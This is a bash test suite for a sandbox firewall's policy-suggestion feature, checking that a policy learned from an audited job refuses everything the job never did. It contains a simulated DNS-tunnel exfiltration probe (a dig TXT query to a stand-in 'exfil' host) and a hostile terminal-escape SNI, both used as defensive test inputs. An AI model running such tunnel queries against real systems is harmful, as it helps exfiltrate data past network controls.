#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Audit, then lock (SPEC §7 suggest): a job runs in allow-all with real
# clients (curl to five names under one parent, git clone, psql, plain
# HTTP to an address), `sbxfw suggest --apply' writes the policy, and
# the same job passes under it while what it never did is refused: a
# name it did not use, a DNS tunnel (markers checked on the internet's
# side, with the same attempts let through in allow-all as the control).
# It never proposes more than the job used: every TLS flow is named, in
# both families, over many runs (ports used again, hellos over two
# segments); a TLS flow without a name is no range; QUIC flows and
# injection domains are what they were.
source "$(dirname "$0")/../lib/check.sh"
UDP_ECHO_PORTS=7	# UDP 443 is the QUIC server's
source "$(dirname "$0")/topology.sh"
source "$(dirname "$0")/capture.sh"

topo_up || { echo "topology failed"; echo "0 passed, 1 failed"; exit 1; }
# the broker verifies the real servers against the test CA
start_daemon "[tls]" "upstream_ca = $CA" ||
	{ cat "$TMP/sbxfwd.log"; echo "0 passed, 1 failed"; exit 1; }
setsid -f ip netns exec "$NS_NET" python3 "$(dirname "$0")/pg_server.py" "$NET4" 5432 \
	"$CERTS/server.pem" "$CERTS/server.key" pg-reached >"$TMP/pg.log" 2>&1
wait_for 50 grep -q listening "$TMP/pg.log"
# HTTP/3: ngtcp2's server, one per family ('*' would bind one of them)
mkdir -p "$TMP/qwww"
echo "hello quic" >"$TMP/qwww/index.html"
for a in "$NET4" "$NET6"; do
	setsid -f ip netns exec "$NS_NET" gtlsserver --no-quic-dump --no-http-dump \
		-d "$TMP/qwww" "$a" 443 "$CERTS/server.key" "$CERTS/server.pem" \
		>>"$TMP/quic-server.log" 2>&1
done
wait_for 50 eval "[ \$(net ss -lun | grep -c ':443 ') -ge 2 ]"
SPKI=$(openssl x509 -in "$CERTS/server.pem" -pubkey -noout |
	openssl pkey -pubin -outform der | openssl dgst -sha256 -binary | base64)

# the audit is read from the database (-c: where the ini says it is)
sg() { "$SBXFW" -s "$SOCK" -c "$TMP/sbxfw.ini" suggest "$@"; }

# allow-all: the kernel lets flows through unread, and logs the segment
# that starts each ClientHello for the flow's name in the audit
audited() { recreate --mode allow-all >/dev/null; }

NAMES="a.example.test b.example.test c.example.test d.example.test e.example.test"

# the job: every step must work; names through the sandbox's DNS
job() {
	local n out
	for n in $NAMES; do
		out=$(https "$n")
		[ "$out" = "hello $n" ] || { echo "curl $n: $out"; return 1; }
	done
	rm -rf "$TMP/clone"
	sb env GIT_SSL_CAINFO="$CA" git clone -q https://git.test/git/repo.git \
		"$TMP/clone" 2>&1 || { echo "git clone failed"; return 1; }
	out=$(sb env PGCONNECT_TIMEOUT=5 PGSSLROOTCERT="$CA" psql \
		"host=db.test port=5432 user=job dbname=job sslmode=verify-full" \
		-c 'SELECT 1' 2>&1)
	echo "$out" | grep -q 'pg-reached' || { echo "psql: $out"; return 1; }
	out=$(sb curl -sS -m 5 http://198.18.3.10/ 2>&1)
	[ "$out" = "plain 198.18.3.10" ] || { echo "http: $out"; return 1; }
}

# what the job never did, each carrying a marker: true if any reached
# the internet (the capture, the upstream resolver's query log)
leaks() { # MARKER
	capture || return 2
	sb curl -s -m 3 --cacert "$CA" "https://$1.other.test/" >/dev/null 2>&1
	sb curl -s -m 3 --cacert "$CA" --resolve "$1.other.test:443:$NET4" \
		"https://$1.other.test/" >/dev/null 2>&1
	sb dig +time=2 +tries=1 TXT "$1.tunnel.exfil.test" >/dev/null 2>&1
	capture_stop
	seen "$1" || grep -q -F "$1" "$TMP/dnsmasq.log"
}

now() { date -u '+%Y-%m-%d %H:%M:%S.%3N'; }

test_allow_all_job_then_suggest_apply_locks_it_down() {
	local out m t
	audited && cli deny sb1 198.18.4.0/24 >/dev/null || return 1
	m=$(marker)
	leaks "$m" || fail "control: the markers did not reach the internet in allow-all"
	# the job's window starts after the control
	t=$(now); sleep 0.2
	out=$(job) || fail "the job in allow-all: $out"
	# its last flow audited (rows are written every 100 ms)
	expect_flow "dst = '198.18.3.10' AND dport = 80" "allow|mode-allow-all|"
	out=$(sg sb1 --since "$t" --json) || fail "suggest: $out"
	python3 - "$out" <<'PY' || fail "suggested: $out"
import json, sys
p = json.loads(sys.argv[1])
assert p["mode"] == "user-defined", p
for want in ("*.example.test", "git.test", "db.test:5432"):
    assert want in p["allow"], (want, p["allow"])
assert not any("other.test" in a for a in p["allow"]), p["allow"]
assert "198.18.3.10/32" in p["subnets"]["allow"], p["subnets"]
assert p["subnets"]["deny"] == ["198.18.4.0/24"], p["subnets"]
assert p["deny"] == [], p["deny"]
w = [r for r in p["comment"]["rules"] if r["rule"] == "*.example.test"][0]
assert w["names"] == 5 and w["flows"] >= 5, w
PY
	# an injection rule: exports redact its value, the apply keeps it
	cli inject sb1 api.example.test --header 'X-Key: kept-s3cr3t' >/dev/null || fail "inject"
	out=$(sg sb1 --since "$t" --apply) || fail "apply: $out"
	cli policy sb1 | grep -q '"X-Key": "<redacted>"' || fail "injection rule lost: $(cli policy sb1)"
	[ "$(sqlite3 -batch -noheader "${DB%.db}-secrets.db" \
		"SELECT count(*) FROM injection_headers WHERE value = 'kept-s3cr3t'")" = 1 ] ||
		fail "the injected value was not kept"
	echo "$out" | grep -q '^+ mode user-defined$' && echo "$out" | grep -q '^+ allow \*.example.test$' ||
		fail "no diff first: $out"
	echo "$out" | grep -q '^  allow \*.example.test — 5 names, [0-9]* flows' || fail "explained: $out"
	[ "$(cli --json show sb1 | python3 -c 'import json,sys; print(json.load(sys.stdin)["mode"])')" = user-defined ] ||
		fail "mode: $(cli show sb1)"
	out=$(job) || fail "the job under the suggested policy: $out"
	m=$(marker)
	leaks "$m" && fail "a marker reached the internet under the suggested policy"
	expect_dns "name = '$m.tunnel.exfil.test'" "deny|domain-not-allowed|"
	expect_flow "sni = '$m.other.test'" "deny|domain-not-allowed|"
}

test_suggest_reads_the_audit_with_the_daemon_down() {
	local out t
	audited || return 1
	t=$(now); sleep 0.2
	[ "$(https a.example.test)" = "hello a.example.test" ] || fail "curl"
	sb dig +short +time=2 +tries=1 tracker.example.test >/dev/null
	expect_dns "name = 'tracker.example.test'" "allow|mode-allow-all|A $NET4"
	# the flow's row, named from its logged ClientHello, before the stop
	expect_flow "sni = 'a.example.test'" "allow|mode-allow-all|"
	stop_daemon
	out=$(sg sb1 --since "$t" 2>&1)
	sg sb1 --since "$t" --json >"$TMP/suggested.json"
	start_daemon
	# the --json form, its comment included, is a policy --set takes
	cli policy sb1 --set "$TMP/suggested.json" | grep -q 'policy replaced' ||
		fail "policy --set refused the suggestion"
	cli check sb1 a.example.test | grep -q 'allow: domain-allowed' || fail "not set"
	echo "$out" | grep -q '^  allow a.example.test — 1 name, 1 flow' || fail "$out"
	echo "$out" | grep -q '^left out, resolved but never connected to: tracker.example.test' ||
		fail "unconnected: $out"
}

# a hostile SNI in allow-all is let through and named in the audit as it
# came; it never becomes a rule, and is escaped in both outputs (lower
# case: names are grouped as rules compare them)
test_hostile_names_are_listed_escaped_never_allowed() {
	local out t
	audited || return 1
	t=$(now); sleep 0.2
	out=$(attack hostile mk7)
	[ "$out" = serverhello ] || fail "allow-all: $out"
	expect_flow "sni LIKE '%mk7%'" "allow|mode-allow-all|"
	sg sb1 --since "$t" >"$TMP/text" || fail "text: exit $?"
	grep -q 'left out, not a host name: \\x1b\[2j\\xff\\xfemk7' "$TMP/text" ||
		fail "text: $(cat -v "$TMP/text")"
	! grep -q "$(printf '\033')" "$TMP/text" || fail "an escape reached the terminal"
	sg sb1 --since "$t" --json | python3 -c '
import json, sys
p = json.loads(sys.stdin.read())
assert p["allow"] == [] and p["subnets"]["allow"] == [], p
assert p["comment"]["unusable_names"][0].startswith("\\x1b[2j\\xff\\xfemk7"), p' ||
		fail "json"
}

# ---- never more than the job used ------------------------------------------

# chrome NAME ADDR: Chromium in the sandbox gets https://NAME/ at ADDR
# over TCP; its hello (a post-quantum key share) spans two segments, the
# server_name anywhere in them (it shuffles its extensions)
chrome() {
	sb timeout 30 chromium --headless=new --no-sandbox --disable-gpu \
		--user-data-dir="$TMP/chromium" --no-first-run --disable-quic \
		--ignore-certificate-errors-spki-list="$SPKI" \
		--host-resolver-rules="MAP $1 $2" \
		--dump-dom "https://$1/" 2>/dev/null
}

# named_rows FAMILY: "all named" of the allowed TCP/443 rows since fresh
named_rows() {
	sql "SELECT count(*), count(sni) FROM flows WHERE
		id > $(cat "$TMP/first_flows") AND family = $1 AND
		proto = 'tcp' AND dport = 443 AND verdict = 'allow'" | tr '|' ' '
}

# hellos FAMILY: the TLS flows with a server_name in $TMP/sb.pcap, as
# `sbxfw inspect' reads them (a connection that sends no hello, as
# Chromium may open, is no TLS flow)
hellos() {
	"$SBXFW" --json inspect "$TMP/sb.pcap" | python3 -c '
import json, sys
print(sum(1 for l in sys.stdin if (o := json.loads(l))["sni"] and
          (":" in o["src"]) == (sys.argv[1] == "6")))' "$1"
}

# The job of the report, RUNS times (24 unless set; at least 20): curl
# to names over IPv4 and IPv6 (one from the same port each time, the
# server closing first, so that the port is used again while conntrack
# holds the flow before in TIME_WAIT), by name (IPv6 first), git clone,
# plain HTTP to an address, and Chromium's two-segment hello, one run in
# each family in turn. Every TLS flow the sandbox sent (its side,
# captured) has its name in its row.
# The allowed flows out without a name (what suggest makes ranges of).
unnamed_rows() {
	sql "SELECT time, src, sport, dst, dport, proto, reason, end_time
		FROM flows WHERE id > $(cat "$TMP/first_flows") AND sni IS NULL
		AND verdict = 'allow' AND direction = 'out' AND dport != 53"
}

test_names_are_never_lost_over_many_runs_in_both_families() {
	local runs=${RUNS:-24} i fam out addr cap all4 all6 n4 n6 h4 h6 t again
	audited || return 1
	t=$(now); sleep 0.2
	ip netns exec "$NS_SB" tcpdump --immediate-mode -B 16384 -i eth0 -n -U -s 0 \
		-w "$TMP/sb.pcap" tcp dst port 443 2>"$TMP/sbcap.err" &
	cap=$!
	wait_for 50 grep -q listening "$TMP/sbcap.err" || fail "no capture"
	for i in $(seq "$runs"); do
		for fam in 4 6; do
			out=$(https a.example.test -$fam --local-port 47000-47019 \
				-H 'Connection: close')
			[ "$out" = "hello a.example.test" ] || fail "run $i, curl -$fam: $out"
		done
		out=$(https b.example.test)
		[ "$out" = "hello b.example.test" ] || fail "run $i, curl: $out"
		out=$(https c.example.test -4)
		[ "$out" = "hello c.example.test" ] || fail "run $i, curl -4: $out"
		rm -rf "$TMP/clone"
		sb env GIT_SSL_CAINFO="$CA" git clone -q https://git.test/git/repo.git \
			"$TMP/clone" 2>&1 || fail "run $i: git clone failed"
		out=$(sb curl -sS -m 5 http://198.18.3.10/ 2>&1)
		[ "$out" = "plain 198.18.3.10" ] || fail "run $i, http: $out"
		addr=$NET4
		[ $((i % 2)) = 0 ] && addr="[$NET6]"
		chrome "c$i.example.test" "$addr" | grep -q "hello c$i.example.test" ||
			fail "run $i: chromium at $addr"
	done
	pcap_stop "$TMP/sb.pcap" "$TMP/sbcap.err"
	wait "$cap"
	# the last flow's row, and its name, written (every 100 ms)
	expect_flow "sni = 'c$runs.example.test'" "allow|mode-allow-all|"
	h4=$(hellos 4)
	h6=$(hellos 6)
	# the names of the last flows written (a lost name never comes)
	wait_for 30 eval '[ "$(named_rows 4 | cut -d" " -f2)" -ge "$h4" ] &&
		[ "$(named_rows 6 | cut -d" " -f2)" -ge "$h6" ]'
	read -r all4 n4 < <(named_rows 4)
	read -r all6 n6 < <(named_rows 6)
	[ "$n4" -ge "$h4" ] && [ "$n6" -ge "$h6" ] ||
		sql "SELECT time, family, sport, dst, end_time FROM flows WHERE
			id > $(cat "$TMP/first_flows") AND dport = 443 AND
			sni IS NULL LIMIT 8" >&2
	again=$(sql "SELECT count(*) FROM flows WHERE id > $(cat "$TMP/first_flows")
		AND dport = 443 AND sni IS NULL AND sport BETWEEN 47000 AND 47019")
	echo "runs $runs: names lost, IPv4 $((h4 - n4)) of $h4 TLS flows," \
		"IPv6 $((h6 - n6)) of $h6 (rows: IPv4 $all4, $n4 named;" \
		"IPv6 $all6, $n6 named; unnamed from the port used again:" \
		"$again)" >&2
	# enough flows made (a client may open one more or one fewer: the
	# names, not these counts, are the test)
	[ "$runs" -ge 20 ] && [ "$h4" -ge $((runs * 5 / 2)) ] &&
		[ "$h6" -ge $((runs * 3 / 2)) ] ||
		fail "too few TLS flows: $h4, $h6 in $runs runs"
	[ "$n4" -ge "$h4" ] && [ "$n6" -ge "$h6" ] ||
		fail "names lost: IPv4 $((h4 - n4)), IPv6 $((h6 - n6))"
	# so the suggestion holds names and the one plain address, no more
	out=$(sg sb1 --since "$t" --json) || fail "suggest: $out"
	python3 - "$out" <<'PY' || { unnamed_rows >&2; fail "suggested: $out"; }
import json, sys
p = json.loads(sys.argv[1])
assert p["subnets"]["allow"] == ["198.18.3.10/32"], p["subnets"]
assert sorted(p["allow"]) == ["*.example.test", "git.test"], p["allow"]
assert p["comment"]["unnamed_tls"] == [], p["comment"]
PY
}

# Flows opened towards the sandbox (allowed in allow-all: a server in it
# fetched from the internet, or a server's late segment after the entry
# of the sandbox's own flow timed out, which opens an entry the other
# way) are no destinations of its own: their rows say so, and suggest
# proposes no range of the sandbox's own address for them.
test_flows_opened_towards_the_sandbox_are_no_rules() {
	local out t fam addr
	audited || return 1
	t=$(now); sleep 0.2
	mkdir -p "$TMP/srv" && echo "served from the sandbox" >"$TMP/srv/page"
	setsid -f ip netns exec "$NS_SB" python3 -m http.server 8080 \
		--bind :: --directory "$TMP/srv" >/dev/null 2>&1
	wait_for 50 eval "sb ss -ltn | grep -q ':8080 '" || fail "no server"
	for addr in 198.18.1.2 '[2001:db8:1::2]'; do
		out=$(net curl -sS -m 3 -g "http://$addr:8080/page" 2>&1)
		[ "$out" = "served from the sandbox" ] || fail "inbound $addr: $out"
	done
	out=$(https a.example.test)
	[ "$out" = "hello a.example.test" ] || fail "curl: $out"
	expect_flow "dport = 8080 AND family = 4" "allow|mode-allow-all|"
	expect_flow "dport = 8080 AND family = 6" "allow|mode-allow-all|"
	expect_flow "sni = 'a.example.test'" "allow|mode-allow-all|"
	[ "$(sql "SELECT group_concat(direction) FROM flows WHERE
		id > $(cat "$TMP/first_flows") AND dport = 8080")" = "in,in" ] ||
		fail "directions: $(sql "SELECT * FROM flows WHERE dport = 8080")"
	out=$("$SBXFW" -c "$TMP/sbxfw.ini" log sb1 --limit 20)
	echo "$out" | grep -q '  sb1  from 198\.18\.2\.[0-9]*:[0-9]*/tcp  -  allow  mode-allow-all$' ||
		fail "log: $out"
	"$SBXFW" -c "$TMP/sbxfw.ini" --json log sb1 --limit 20 | python3 -c '
import json, sys
rows = [json.loads(l) for l in sys.stdin]
assert sorted(r["direction"] for r in rows if r["dport"] == 8080) == ["in", "in"], rows
assert all(r["direction"] == "out" for r in rows if r["dport"] == 443), rows' ||
		fail "log --json"
	out=$(sg sb1 --since "$t" --json) || fail "suggest: $out"
	python3 - "$out" <<'PY' || fail "suggested: $out"
import json, sys
p = json.loads(sys.argv[1])
assert p["subnets"]["allow"] == [], p["subnets"]
assert p["allow"] == ["a.example.test"], p["allow"]
PY
	pkill -f -- "--directory $TMP/srv"
}

# A TLS flow without a name (curl to an address sends none) is listed,
# and no range: under the applied policy, another name at that address
# and plain HTTP to it are refused. --ranges-for-unnamed asks for one.
test_an_unnamed_tls_flow_is_listed_never_a_range() {
	local out t
	audited || return 1
	t=$(now); sleep 0.2
	out=$(sb curl -sS -m 5 --cacert "$CA" "https://[$NET6]/" 2>&1)
	[ "$out" = "hello " ] || fail "curl to the address: $out"
	out=$(https a.example.test)
	[ "$out" = "hello a.example.test" ] || fail "curl: $out"
	out=$(sb curl -sS -m 5 http://198.18.3.10/ 2>&1)
	[ "$out" = "plain 198.18.3.10" ] || fail "http: $out"
	expect_flow "dst = '198.18.3.10' AND dport = 80" "allow|mode-allow-all|"
	out=$(sg sb1 --since "$t" --json) || fail "suggest: $out"
	python3 - "$out" "$NET6" <<'PY' || fail "suggested: $out"
import json, sys
p, six = json.loads(sys.argv[1]), sys.argv[2]
assert p["subnets"]["allow"] == ["198.18.3.10/32"], p["subnets"]
assert p["allow"] == ["a.example.test"], p["allow"]
assert p["comment"]["unnamed_tls"] == [{"address": six, "proto": "tcp",
    "port": 443, "flows": 1, "in_range": False}], p["comment"]
PY
	sg sb1 --since "$t" >"$TMP/text" || fail "text: exit $?"
	grep -q '^left out, TLS without a name (a range would allow every name and every port at its address; --ranges-for-unnamed' "$TMP/text" &&
		grep -q "^  $NET6 tcp/443, 1 flow\$" "$TMP/text" || fail "text: $(cat "$TMP/text")"
	# asked for, a range all the same
	out=$(sg sb1 --since "$t" --ranges-for-unnamed --json) || fail "suggest: $out"
	echo "$out" | python3 -c '
import json, sys
p = json.loads(sys.stdin.read())
assert sorted(p["subnets"]["allow"]) == ["198.18.3.10/32", sys.argv[1] + "/128"], p
assert len(p["comment"]["unnamed_tls"]) == 1, p' "$NET6" || fail "--ranges-for-unnamed: $out"
	out=$(sg sb1 --since "$t" --apply) || fail "apply: $out"
	echo "$out" | grep -q "^+ allow 198.18.3.10/32 — tcp/80$" || fail "diff: $out"
	! echo "$out" | grep -q "^+ allow $NET6" || fail "a range for the address: $out"
	[ "$(https a.example.test)" = "hello a.example.test" ] || fail "the name used"
	https other.test --resolve "other.test:443:[$NET6]" >/dev/null &&
		fail "another name at that address passed"
	expect_flow "sni = 'other.test'" "deny|domain-not-allowed|"
	sb curl -sS -m 3 "http://[$NET6]/" >/dev/null 2>&1 &&
		fail "plain HTTP to that address passed"
	expect_flow "dst = '$NET6' AND dport = 80" "deny|not-tls|"
}

# h3 NAME: gtlsclient (HTTP/3) in the sandbox gets / from NAME (its DNS)
h3() {
	sb timeout 20 gtlsclient --exit-on-all-streams-close --no-quic-dump \
		--handshake-timeout=10s "$1" 443 "https://$1/index.html" >"$TMP/h3.log" 2>&1
	grep -q '|hello quic.|' "$TMP/h3.log"
}

# QUIC rows, named by their Initials, become rules as TCP's do, and the
# diff says so; the same request is served over QUIC under the policy.
test_quic_flows_become_rules_and_the_diff_says_so() {
	local out t
	audited || return 1
	t=$(now); sleep 0.2
	h3 h3.example.test || fail "HTTP/3 in allow-all: $(tail -3 "$TMP/h3.log")"
	expect_flow "proto = 'udp' AND sni = 'h3.example.test'" "allow|mode-allow-all|"
	out=$(sg sb1 --since "$t" --json) || fail "suggest: $out"
	python3 - "$out" <<'PY' || fail "suggested: $out"
import json, sys
p = json.loads(sys.argv[1])
assert p["allow"] == ["h3.example.test"] and p["subnets"]["allow"] == [], p
assert p["comment"]["unnamed_tls"] == [], p["comment"]
r = p["comment"]["rules"][0]
assert r["flows"] >= 1 and "over QUIC" in r["note"], r
PY
	out=$(sg sb1 --since "$t" --apply) || fail "apply: $out"
	echo "$out" | grep -q '^+ allow h3.example.test — [0-9]* over QUIC, named by their Initials$' ||
		fail "diff: $out"
	h3 h3.example.test || fail "HTTP/3 under the policy: $(tail -3 "$TMP/h3.log")"
	expect_flow "proto = 'udp' AND sni = 'h3.example.test'" \
		"allow|domain-allowed|h3.example.test"
}

# An injection domain stays one: the broker's flows and requests keep
# its rule, and become no allow rule that would let the name through
# unbrokered, without its header, once the injection rule goes.
test_an_injection_domain_stays_an_injection_domain() {
	local out t i first
	audited || return 1
	cli inject sb1 api.example.test --header 'X-Job: s3cr3t' >/dev/null || return 1
	cli ca sb1 >"$TMP/sb-ca.pem" || return 1
	t=$(now); sleep 0.2
	first=$(sql "SELECT coalesce(max(id), 0) FROM requests")
	for i in 1 2 3; do
		out=$(sb curl -sS -m 10 --cacert "$TMP/sb-ca.pem" https://api.example.test/ 2>&1)
		[ "$out" = "hello api.example.test" ] || fail "brokered: $out"
	done
	[ "$(https a.example.test)" = "hello a.example.test" ] || fail "another name"
	expect_flow "sni = 'api.example.test'" "allow|inject|api.example.test"
	# the kernel allowed it: its name comes after its row (nflog)
	expect_flow "sni = 'a.example.test'" "allow|mode-allow-all|"
	wait_for 20 eval "[ \$(sql \"SELECT count(*) FROM requests WHERE id > $first
		AND host = 'api.example.test'\") -ge 3 ]" ||
		fail "requests rows: $(sql 'SELECT * FROM requests')"
	out=$(sg sb1 --since "$t" --json) || fail "suggest: $out"
	python3 - "$out" <<'PY' || fail "suggested: $out"
import json, sys
p = json.loads(sys.argv[1])
assert p["allow"] == ["a.example.test"], p["allow"]
k = p["comment"]["injections"]
assert len(k) == 1 and k[0]["domain"] == "api.example.test", k
assert k[0]["flows"] >= 3 and k[0]["requests"] >= 3 and k[0]["names"] == 1, k
PY
	out=$(sg sb1 --since "$t" --apply) || fail "apply: $out"
	echo "$out" | grep -q '^  inject api.example.test — kept; 1 name, [0-9]* flows, [0-9]* requests through the broker$' ||
		fail "diff: $out"
	! echo "$out" | grep -q '^+ allow api.example.test' || fail "an allow rule: $out"
	out=$(sb curl -sS -m 10 --cacert "$TMP/sb-ca.pem" https://api.example.test/ 2>&1)
	[ "$out" = "hello api.example.test" ] || fail "brokered under the policy: $out"
	# without its injection rule, the name is no longer allowed at all
	cli inject sb1 api.example.test --remove >/dev/null || fail "inject --remove"
	out=$(https api.example.test --resolve "api.example.test:443:$NET4")
	[ "$out" = "hello api.example.test" ] && fail "passed unbrokered once the injection went"
	expect_flow "sni = 'api.example.test' AND reason != 'inject'" "deny|domain-not-allowed|"
}

test_suggest_refuses_bad_input_and_changes_nothing() {
	local out
	recreate --mode allow-all >/dev/null || return 1
	out=$(sg nosuch 2>&1); [ $? -eq 1 ] && [ "$out" = "sbxfw: no sandbox named \`nosuch'" ] ||
		fail "name: $out"
	out=$(sg sb1 --wildcard-threshold 1 2>&1); [ $? -eq 1 ] &&
		echo "$out" | grep -q "invalid --wildcard-threshold \`1'" || fail "threshold: $out"
	out=$(sg sb1 --max-prefix 33 2>&1); [ $? -eq 1 ] &&
		echo "$out" | grep -q "invalid --max-prefix \`33'" || fail "prefix: $out"
	out=$(sg sb1 --since yesterdayish 2>&1); [ $? -eq 1 ] &&
		echo "$out" | grep -q "invalid time \`yesterdayish' for --since" || fail "since: $out"
	out=$(sg 2>&1); [ $? -eq 2 ] || fail "usage: $out"
	cli check sb1 anything.test | grep -q 'allow: mode-allow-all' || fail "changed"
}

run_cases
grep -E 'Sanitizer|runtime error' "$TMP/sbxfwd.log" && failed=$((failed + 1))
finish
